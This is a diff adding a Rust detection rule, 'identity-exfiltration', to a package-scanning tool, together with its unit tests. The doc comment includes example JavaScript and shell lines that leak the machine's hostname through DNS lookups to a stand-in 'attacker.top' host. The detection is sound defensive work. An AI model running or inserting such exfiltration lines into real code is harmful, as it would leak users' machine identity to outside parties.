@@ -1,0 +1,79 @@
+use crate::{declare_rule, Category, RawFinding, Rule, RuleMeta, Severity};
+use telltale_facts::FileFacts;
+use telltale_knowledge::vendors;
+
+declare_rule! {
+    /// ## What it detects
+    /// Identity read on this machine (host name, user name, home directory, network
+    /// interfaces, machine id, SSH key, credentials, the whole environment) reaching a network
+    /// sink: an HTTP request, a DNS lookup, a socket, a beacon, or a network command such as
+    /// `curl` or `nslookup`. The finding lists each step from the read to the send.
+    ///
+    /// ## Why it matters
+    /// This is how malicious packages fingerprint and report the machines that install them,
+    /// and how hidden tracking identifies users. Sent from an install script it is critical:
+    /// it happens during `npm install`, before anyone ran the package. When every endpoint is
+    /// a known telemetry vendor the finding is medium: disclosed telemetry, still worth a look.
+    ///
+    /// ## Example
+    /// ```js
+    /// const os = require("os");
+    /// require("dns").lookup(`${os.hostname()}.attacker.top`, () => {});
+    /// ```
+    /// ```sh
+    /// nslookup `hostname`.attacker.top
+    /// ```
+    IdentityExfiltration { id: "TT102", name: "identity-exfiltration", category: Category::Exfiltration, severity: Severity::High }
+}
+
+impl Rule for IdentityExfiltration {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+    fn check(&self, f: &FileFacts, out: &mut Vec<RawFinding>) {
+        for flow in &f.flows {
+            let identity = flow.kinds.identity();
+            if identity.is_empty() {
+                continue;
+            }
+            let what: Vec<&str> = identity.iter().map(|k| k.describe()).collect();
+            let to = if flow.endpoints.is_empty() { String::new() } else { format!(" to {}", flow.endpoints.join(", ")) };
+            let mut r = RawFinding::new(&Self::META, flow.span, format!("sends {}{to} via {} ({})", what.join(", "), flow.sink_api, flow.sink.describe()));
+            if !flow.endpoints.is_empty() && flow.endpoints.iter().all(|h| vendors::telemetry_vendor_for_host(h).is_some()) {
+                r.severity = Severity::Medium;
+            }
+            r.evidence = what.iter().map(|s| s.to_string()).collect();
+            r.evidence.extend(flow.steps.iter().map(|s| s.what.clone()));
+            r.endpoints = flow.endpoints.clone();
+            r.steps = flow.steps.clone();
+            out.push(r);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rules::fixture::{facts, run};
+    use telltale_facts::{DataKind, FlowFact, Kinds, SinkKind, Span};
+
+    fn flow(kind: DataKind, host: &str) -> FlowFact {
+        FlowFact { kinds: Kinds::of(kind), sink: SinkKind::Http, sink_api: "https.request".into(), span: Span::new(0, 1), endpoints: vec![host.into()], steps: vec![] }
+    }
+
+    #[test]
+    fn identity_to_unknown_host_is_high() {
+        let mut f = facts();
+        f.flows.push(flow(DataKind::Hostname, "x.robotnowai.top"));
+        let out = run(&IdentityExfiltration, &f);
+        assert_eq!(out.len(), 1);
+        assert_eq!(out[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn region_only_flow_is_not_identity_exfiltration() {
+        let mut f = facts();
+        f.flows.push(flow(DataKind::TimeZone, "x.example"));
+        assert!(run(&IdentityExfiltration, &f).is_empty());
+    }
+}
